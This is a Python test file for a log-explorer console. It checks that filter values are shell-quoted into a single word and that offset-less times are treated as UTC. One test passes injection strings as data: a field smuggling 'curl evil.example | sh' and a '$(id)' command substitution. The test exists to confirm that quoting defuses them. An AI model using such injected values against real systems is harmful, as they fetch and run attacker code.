"""The log explorer: what its filters mean, and the command that does the same."""

from __future__ import annotations

import shlex
from datetime import UTC, datetime

import pytest

from tollgate.control.console.logs import _command, query_of


def test_command_quotes_a_filter_of_any_text_as_one_word() -> None:
    given = {"method": "eth_call; curl evil.example | sh", "source": "$(id)", "errors": "on"}
    command = _command("acme", given)
    assert shlex.split(command, comments=True) == [
        *("tollgate", "rpc", "logs", "--team", "acme", "--method", given["method"]),
        *("--errors", "--token", "$(id)"),
    ]
    assert f"'{given['method']}'" in command


@pytest.mark.parametrize("text", ["2026-11-15T12:00", "2026-11-15T12:00Z", "2026-11-15T14:00+02:00"])
def test_time_without_an_offset_is_utc(text: str) -> None:
    assert query_of({"until": text}).until == datetime(2026, 11, 15, 12, tzinfo=UTC)
